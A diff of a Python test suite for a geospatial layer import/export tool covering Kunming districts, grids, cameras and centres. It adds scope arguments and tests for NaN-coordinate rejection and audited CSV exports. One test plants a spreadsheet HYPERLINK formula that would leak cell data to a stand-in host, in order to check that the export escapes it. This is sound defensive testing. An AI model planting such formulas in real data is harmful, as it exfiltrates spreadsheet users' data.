@@ -32,6 +32,7 @@ from layers.io import (
 )
 from layers.models import Incident
 from layers.services import areas, cameras, centers, grids
+from layers.services.scope import Scope
 from tests.dbs import db_url
 
 # --- a small city: 2 districts, 3 streets, 4 communities, 8 grids (WGS-84 boxes) ---------
@@ -138,7 +139,7 @@ def city_db(db_backend, tmp_path):
 
 # --- the city import itself -------------------------------------------------------------
 def test_city_import_links_parents_and_creates_city(city_db):
-    gdf = areas.read_gdf(city_db)
+    gdf = areas.read_gdf(city_db, scope=Scope.ALL)
     assert gdf["level"].value_counts().to_dict() == {
         "city": 1, "district": 2, "street": 3, "community": 4,
     }  # fmt: skip
@@ -149,7 +150,7 @@ def test_city_import_links_parents_and_creates_city(city_db):
     assert parents["530102"] == "530100"
     assert parents["530102001"] == "530102"
     assert parents["530103001001"] == "530103001"
-    g = grids.read_gdf(city_db)
+    g = grids.read_gdf(city_db, scope=Scope.ALL)
     assert len(g) == 8
     assert set(g.community_code) == {c for c, _, _ in COMMUNITIES}
     # area computed in a metric CRS: a 0.025 x 0.05 degree box near 25 N is ~12.6 km2
@@ -173,21 +174,24 @@ def test_every_layer_roundtrips_through_each_format(db_backend, tmp_path, city_d
         report = import_layer(target, layer, out, progress=False)
         assert report.exit_code == 0, report.format()
         assert report.imported == n
-    for reader, key in [(lambda d: areas.read_gdf(d), "code"), (grids.read_gdf, "code")]:
+    for reader, key in [
+        (lambda d: areas.read_gdf(d, scope=Scope.ALL), "code"),
+        (lambda d: grids.read_gdf(d, scope=Scope.ALL), "code"),
+    ]:
         a = reader(city_db).set_index(key).sort_index()
         b = reader(target).set_index(key).sort_index()
         assert list(a.index) == list(b.index)
         assert list(a["name"]) == list(b["name"])
         for ga, gb in zip(a.geometry, b.geometry, strict=True):
             assert shapely.normalize(ga).equals_exact(shapely.normalize(gb), 1e-9)
-    ca = cameras.read_gdf(city_db).set_index("gb_id")
-    cb = cameras.read_gdf(target).set_index("gb_id")
+    ca = cameras.read_gdf(city_db, scope=Scope.ALL).set_index("gb_id")
+    cb = cameras.read_gdf(target, scope=Scope.ALL).set_index("gb_id")
     assert list(ca.index) == list(cb.index)
     cols = ["name", "cls", "azimuth", "fov", "range_m", "grid_code", "lon", "lat"]
     pd.testing.assert_frame_equal(ca[cols], cb[cols], check_dtype=False)
     # exports never carry stream credentials
     assert "secret" not in "".join(cb.stream_url)
-    got = centers.read_gdf(target).set_index("name").area_code.to_dict()
+    got = centers.read_gdf(target, scope=Scope.ALL).set_index("name").area_code.to_dict()
     assert got == {"五华区综治中心": "530102", "华山街道综治中心": "530102001"}
 
 
@@ -197,7 +201,7 @@ def test_gbk_shapefile_without_cpg_keeps_chinese_names(db_backend, tmp_path):
     polygon_gdf(DISTRICTS).to_file(path, engine="pyogrio", encoding="GBK")
     path.with_suffix(".cpg").unlink(missing_ok=True)
     assert import_layer(db, "districts", path, progress=False).exit_code == 0
-    assert list(areas.read_gdf(db, level="district").name) == ["五华区", "盘龙区"]
+    assert list(areas.read_gdf(db, level="district", scope=Scope.ALL).name) == ["五华区", "盘龙区"]
 
 
 @pytest.mark.parametrize("ext", [".geojson", ".gpkg", ".shp", ".zip", ".csv"])
@@ -248,7 +252,7 @@ def test_grids_in_each_crs_are_stored_in_wgs84(db_backend, tmp_path, crs, ext, u
     path = write(_grids_in(crs), tmp_path / f"grids{ext}")
     report = import_layer(db, "grids", path, crs=crs if use_option else None, progress=False)
     assert report.exit_code == 0, report.format()
-    stored = grids.read_gdf(db).set_index("code")
+    stored = grids.read_gdf(db, scope=Scope.ALL).set_index("code")
     for code, _, geom in GRIDS:
         got = stored.geometry[code]
         # within ~1 cm of the WGS-84 original
@@ -265,7 +269,7 @@ def test_camera_points_in_each_crs(tmp_path, city_db, crs):
     frame.to_csv(path, index=False)
     report = import_layer(city_db, "cameras", path, crs=crs, progress=False)
     assert report.exit_code == 0, report.format()
-    stored = cameras.read_gdf(city_db).set_index("gb_id")
+    stored = cameras.read_gdf(city_db, scope=Scope.ALL).set_index("gb_id")
     for gb_id, _, _, lon, lat, _ in CAMERAS:
         assert stored.lon[gb_id] == pytest.approx(lon, abs=1e-8)
         assert stored.lat[gb_id] == pytest.approx(lat, abs=1e-8)
@@ -279,8 +283,8 @@ def test_export_in_gcj02_round_trips(db_backend, tmp_path, city_db):
     db2 = new_db(tmp_path, "b.sqlite", db_backend=db_backend)
     import_city(db2, tmp_path, with_grids=False)
     assert import_layer(db2, "grids", out, crs="gcj02", progress=False).exit_code == 0
-    a = grids.read_gdf(city_db).set_index("code")
-    b = grids.read_gdf(db2).set_index("code")
+    a = grids.read_gdf(city_db, scope=Scope.ALL).set_index("code")
+    b = grids.read_gdf(db2, scope=Scope.ALL).set_index("code")
     assert max(shapely.hausdorff_distance(a.geometry[c], b.geometry[c]) for c in a.index) < 1e-8
 
 
@@ -358,7 +362,7 @@ def test_bad_grid_rows_are_reported_and_the_rest_imported(db_backend, tmp_path, 
     assert "lon/lat look swapped" in rejected[10]
     assert issues[6]["code"] == "5301020010010" and issues[6]["name"] == "短码"
     assert "row 6 (5301020010010, 短码): rejected" in out
-    stored = grids.read_gdf(db).set_index("code")
+    stored = grids.read_gdf(db, scope=Scope.ALL).set_index("code")
     assert sorted(stored.index) == [GRIDS[0][0], "53010200100102", "53010200100103"]
     assert stored.geometry["53010200100103"].is_valid
 
@@ -406,7 +410,7 @@ def test_swapped_point_detected_by_the_city_test_in_a_projected_free_crs(tmp_pat
 def test_reimport_with_a_bad_row_keeps_everything_stored(tmp_path, city_db):
     first = write(camera_gdf(), tmp_path / "cams1.geojson")
     assert import_layer(city_db, "cameras", first, progress=False).exit_code == 0
-    before = cameras.read_gdf(city_db).drop(columns=["id"]).set_index("gb_id")
+    before = cameras.read_gdf(city_db, scope=Scope.ALL).drop(columns=["id"]).set_index("gb_id")
     more = gpd.GeoDataFrame(
         {"gb_id": ["53010300001320000031", "53010300001320000032", CAMERAS[0][0]],
          "name": ["新1", "新2", "改名"], "class": [1, 2, 3]},
@@ -416,7 +420,7 @@ def test_reimport_with_a_bad_row_keeps_everything_stored(tmp_path, city_db):
     code = main(["import", "cameras", str(write(more, tmp_path / "cams2.geojson")),
                  "--db", city_db.url])  # fmt: skip
     assert code == 1
-    after = cameras.read_gdf(city_db).drop(columns=["id"]).set_index("gb_id")
+    after = cameras.read_gdf(city_db, scope=Scope.ALL).drop(columns=["id"]).set_index("gb_id")
     assert len(after) == 4
     pd.testing.assert_frame_equal(after.loc[before.index], before)
     assert after.name[CAMERAS[0][0]] == CAMERAS[0][1]  # the duplicate did not overwrite it
@@ -457,7 +461,10 @@ def test_database_failure_mid_import_keeps_prior_and_other_rows(tmp_path, city_d
                           progress=False)  # fmt: skip
     assert report.imported == 1 and report.exit_code == 1
     assert "database refused it" in report.rejected[0].reason
-    assert sorted(cameras.read_gdf(city_db).gb_id) == [CAMERAS[0][0], CAMERAS[2][0]]
+    assert sorted(cameras.read_gdf(city_db, scope=Scope.ALL).gb_id) == [
+        CAMERAS[0][0],
+        CAMERAS[2][0],
+    ]
 
 
 def test_parent_found_by_location_when_code_prefix_is_unknown(tmp_path, city_db):
@@ -466,7 +473,10 @@ def test_parent_found_by_location_when_code_prefix_is_unknown(tmp_path, city_db)
                           progress=False)  # fmt: skip
     assert report.exit_code == 0
     assert "linked by location" in report.issues[0].reason
-    assert grids.grid_card(city_db, "53010200100999")["community"]["code"] == "530102001001"
+    assert (
+        grids.grid_card(city_db, "53010200100999")["community"]["code"]
+        == "530102001001"
+    )
 
 
 def test_district_codes_checked_against_editions(db_backend, tmp_path):
@@ -493,7 +503,7 @@ def test_centers_link_to_area_by_location_with_chinese_levels(tmp_path, city_db)
                           "x": [102.68, 102.75], "y": [25.0, 25.0]})  # fmt: skip
     frame.to_csv(tmp_path / "c.csv", index=False, encoding="gbk")  # Excel on a Chinese PC
     assert import_layer(city_db, "centers", tmp_path / "c.csv", progress=False).exit_code == 0
-    got = centers.read_gdf(city_db).set_index("name")
+    got = centers.read_gdf(city_db, scope=Scope.ALL).set_index("name")
     assert got.level["正义社区综治中心"] == "village"
     assert got.area_code["正义社区综治中心"] == "530102002001"
     assert got.area_code["拓东街道综治中心"] == "530103001"
@@ -596,7 +606,7 @@ def test_kunming_gcj02_import_shift_and_round_trip(db_backend, tmp_path, shared_
     assert "imported 14 of 14 rows" in out and "0 rejected" in out
     assert "row 7 (530122, 晋宁区): note: code 530122 matched GB/T 2260 edition 2016" in out
     original = gpd.read_file(src).set_index("adcode")
-    stored = areas.read_gdf(db, level="district").set_index("code")
+    stored = areas.read_gdf(db, level="district", scope=Scope.ALL).set_index("code")
     geod = pyproj.Geod(ellps="WGS84")
     shifts = []
     for code in original.index:
@@ -616,5 +626,49 @@ def test_kunming_gcj02_import_shift_and_round_trip(db_backend, tmp_path, shared_
         for c in original.index
     ]  # fmt: skip
     assert np.concatenate(errors).max() < 1.0
-    city = areas.read_gdf(db, level="city").iloc[0]
+    city = areas.read_gdf(db, level="city", scope=Scope.ALL).iloc[0]
     assert city.code == "530100"
+
+
+# --- NaN coordinates, formula cells, audited exports ----------------------------------------
+def test_nan_coordinates_are_rejected_with_a_reason_not_a_geos_traceback(tmp_path, city_db):
+    """A GeoJSON ring with NaN coordinates cannot be built by GEOS: that row is rejected."""
+    good = GRIDS[0][2].exterior.coords
+    doc = {"type": "FeatureCollection", "features": [
+        {"type": "Feature", "properties": {"code": "53010200100108", "name": "好"},
+         "geometry": shapely.geometry.mapping(box(102.62, 24.96, 102.63, 24.97))},
+        {"type": "Feature", "properties": {"code": "53010200100109", "name": "坏"},
+         "geometry": {"type": "Polygon", "coordinates": [[
+             ["NaN", good[0][1]], list(good[1]), list(good[2]), ["NaN", good[0][1]]]]}},
+    ]}  # fmt: skip
+    path = tmp_path / "nan.geojson"
+    path.write_text(json.dumps(doc).replace('"NaN"', "NaN"))
+    report = import_layer(city_db, "grids", path, progress=False)
+    assert report.imported == 1 and report.exit_code == 1, report.format()
+    reasons = {i.row: i.reason for i in report.rejected}
+    assert set(reasons) == {2} and "NaN" in reasons[2]
+    cams = tmp_path / "nan.csv"
+    cams.write_text("gb_id,name,cls,lon,lat\n53010200001320000021,甲,1,NaN,24.97\n"
+                    "53010200001320000022,乙,1,102.62,inf\n")  # fmt: skip
+    report = import_layer(city_db, "cameras", cams, progress=False)
+    assert report.imported == 0 and {i.row for i in report.rejected} == {1, 2}
+
+
+def test_csv_exports_neutralise_formula_cells_and_are_audited(tmp_path, city_db):
+    from layers.models import AuditEntry
+
+    with city_db.session() as s:
+        from layers.models import Grid
+
+        g = s.query(Grid).order_by(Grid.id).first()
+        g.name = '=HYPERLINK("http://x/?"&A1,"点我")'
+    out = tmp_path / "grids.csv"
+    export_layer(city_db, "grids", out)
+    text = out.read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK(" in text
+    with open(out, encoding="utf-8-sig") as fh:
+        names = [r["name"] for r in csv.DictReader(fh)]
+    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
+    with city_db.session() as s:
+        entry = s.query(AuditEntry).filter_by(action="layer.export").one()
+        assert entry.target == "grids" and entry.actor.startswith("cli:")
